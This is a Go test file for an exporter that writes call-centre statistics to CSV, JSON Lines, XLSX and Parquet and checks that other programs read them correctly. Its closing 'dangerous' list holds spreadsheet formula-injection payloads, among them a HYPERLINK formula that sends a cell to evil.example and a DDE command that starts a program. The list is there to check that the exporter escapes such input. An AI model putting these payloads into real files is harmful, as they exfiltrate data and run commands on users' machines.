package export

import (
	"bytes"
	"database/sql"
	"fmt"
	"path/filepath"
	"testing"

	"github.com/google/go-cmp/cmp"
)

func TestCSVIsReadByAnotherProgram(t *testing.T) {
	file := made(t, CSV, tableOf(), full(`한국어, "따옴표" 둘
줄`), make([]Value, 9))
	want := [][]string{
		{"name", "calls", "mean", "talk_seconds", "service_level", "abandoned", "day", "start", "start_utc"},
		{"한국어, \"따옴표\" 둘\n줄", "1234", "31.25", "241.75", "83.6", "true", "2026-11-01", "2026-11-01 09:15:30", "2026-11-01T00:15:30.250Z"},
		{"", "", "", "", "", "", "", "", ""},
	}
	if diff := cmp.Diff(want, read[[][]string](t, CSV, file)); diff != "" {
		t.Errorf("rows (-want +read):\n%s", diff)
	}
	if !bytes.HasSuffix(file, []byte("\r\n")) {
		t.Error("the last line does not end as RFC 4180 wants it to")
	}
}

func TestJSONLinesAreReadByAnotherProgram(t *testing.T) {
	want := []map[string]any{{
		"name": "=A1 \"<tag>\"\u0001", "calls": 1234.0, "mean": 31.25, "talk_seconds": 241.75, "service_level": 83.6, "abandoned": true,
		"day": "2026-11-01", "start": "2026-11-01T09:15:30.250+09:00", "start_utc": "2026-11-01T00:15:30.250Z",
	}, {
		"name": nil, "calls": nil, "mean": nil, "talk_seconds": nil, "service_level": nil, "abandoned": nil, "day": nil, "start": nil, "start_utc": nil,
	}}
	file := made(t, JSONL, tableOf(), full("=A1 \"<tag>\"\u0001"), make([]Value, 9))
	if diff := cmp.Diff(want, read[[]map[string]any](t, JSONL, file)); diff != "" {
		t.Errorf("rows (-want +read):\n%s", diff)
	}
}

// sheets is a workbook: rows of cells by sheet, each of type, text and number format.
type sheets map[string][][][]string

func TestXLSXIsTypedAndReadByAnotherProgram(t *testing.T) {
	book := read[sheets](t, XLSX, made(t, XLSX, tableOf(), full("기술 지원"), make([]Value, 9)))
	rows := book["상담"]
	if len(rows) != 3 || len(rows[1]) != 9 || len(rows[2]) != 0 {
		t.Fatalf("rows %v", rows)
	}
	want := [][]string{
		{"inlineStr", "기술 지원", "0"},
		{"n", "1234", "0"},
		{"n", "31.25", "0"},
		{"n", "0.0027980324074074075", "[h]:mm:ss"},
		{"n", "0.836", "0.00%"},
		{"b", "1", "0"},
		{"n", "46327", "yyyy-mm-dd"},
		{"n", "46327.385766782405", "yyyy-mm-dd hh:mm:ss"},
		{"n", "46327.010766782405", "yyyy-mm-dd hh:mm:ss"},
	}
	if diff := cmp.Diff(want, rows[1]); diff != "" {
		t.Errorf("cells (-want +read):\n%s", diff)
	}
	about := book["안내"]
	wantAbout := [][][]string{
		{{"inlineStr", "무엇", "0"}},
		{{"inlineStr", "필터", "0"}, {"inlineStr", "'=cmd|' /C calc'!A0", "0"}},
		{{"inlineStr", "시간대", "0"}, {"inlineStr", "Asia/Seoul", "0"}},
		{},
		{{"inlineStr", "지표", "0"}},
	}
	if diff := cmp.Diff(wantAbout, about); diff != "" {
		t.Errorf("sheet about the file (-want +read):\n%s", diff)
	}
}

func TestParquetIsReadByDuckDB(t *testing.T) {
	file := filepath.Join(t.TempDir(), "a.parquet")
	rows := [][]Value{make([]Value, 9)}
	for i := range 3 * batchRows {
		rows = append(rows, full(fmt.Sprintf("=이름 %d", i)))
	}
	writeFile(t, file, made(t, Parquet, tableOf(), rows...))
	db, err := sql.Open("duckdb", "")
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	var got, types string
	var n, empty int
	err = db.QueryRowContext(t.Context(), `select count(*), count(*) filter (name is null and calls is null and start is null),
		any_value(concat_ws('|', calls, mean, talk_seconds, service_level, abandoned, day, start, epoch_ms(start_utc))) filter (name is not null),
		any_value(concat_ws('|', typeof(calls), typeof(day), typeof(start), typeof(start_utc)))
		from read_parquet($1)`, file).Scan(&n, &empty, &got, &types)
	if err != nil {
		t.Fatal(err)
	}
	want := fmt.Sprintf("1234|31.25|241.75|83.6|true|2026-11-01|2026-11-01 09:15:30.25|%d", nineFifteen)
	if n != len(rows) || empty != 1 || got != want || types != "BIGINT|DATE|TIMESTAMP|TIMESTAMP WITH TIME ZONE" {
		t.Errorf("%d rows, %d empty, %s of %s; want %d, 1, %s", n, empty, got, types, len(rows), want)
	}
	var inOrder bool
	err = db.QueryRowContext(t.Context(), `select bool_and(name is null or name = '=이름 ' || (file_row_number - 1)) from read_parquet($1, file_row_number = true)`, file).Scan(&inOrder)
	if err != nil || !inOrder {
		t.Errorf("rows are not in the order they were written in; error %v", err)
	}
	var manifest []byte
	err = db.QueryRowContext(t.Context(), `select value from parquet_kv_metadata($1) where key = 'ringside'`, file).Scan(&manifest)
	if err != nil || string(manifest) != string(tableOf().About.Manifest) {
		t.Errorf("manifest %s, error %v", manifest, err)
	}
}

// A question that nothing fits, and one that one row does, are answered with files that every program opens.
func TestAFileOfNoRowsOrOneIsWhole(t *testing.T) {
	for n := range 2 {
		rows := [][]Value{full("하나")}[:n]
		if got := read[[][]string](t, CSV, made(t, CSV, tableOf(), rows...)); len(got) != 1+n || len(got[0]) != 9 {
			t.Errorf("csv of %d rows: %v", n, got)
		}
		book := read[sheets](t, XLSX, made(t, XLSX, tableOf(), rows...))
		if got := book["상담"]; len(got) != 1+n || len(got[0]) != 9 || len(book["안내"]) == 0 {
			t.Errorf("workbook of %d rows: %v", n, book)
		}
		if got := read[[]map[string]any](t, JSONL, made(t, JSONL, tableOf(), rows...)); len(got) != n {
			t.Errorf("json lines of %d rows: %v", n, got)
		}
		file := filepath.Join(t.TempDir(), "a.parquet")
		writeFile(t, file, made(t, Parquet, tableOf(), rows...))
		db, err := sql.Open("duckdb", "")
		if err != nil {
			t.Fatal(err)
		}
		var found, columns int
		err = db.QueryRowContext(t.Context(), `select (select count(*) from read_parquet($1)), count(*) from (describe from read_parquet($1))`, file).
			Scan(&found, &columns)
		if err != nil || found != n || columns != 9 {
			t.Errorf("parquet of %d rows: %d of %d columns, error %v", n, found, columns, err)
		}
		if err := db.Close(); err != nil {
			t.Error(err)
		}
	}
}

// dangerous are texts that spreadsheets run, or that hide one.
var dangerous = []string{
	"=1+1", "+82215880001", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)",
	`=HYPERLINK("http://evil.example/?x="&A1,"Error")`, `=cmd|' /C calc'!A0`,
}
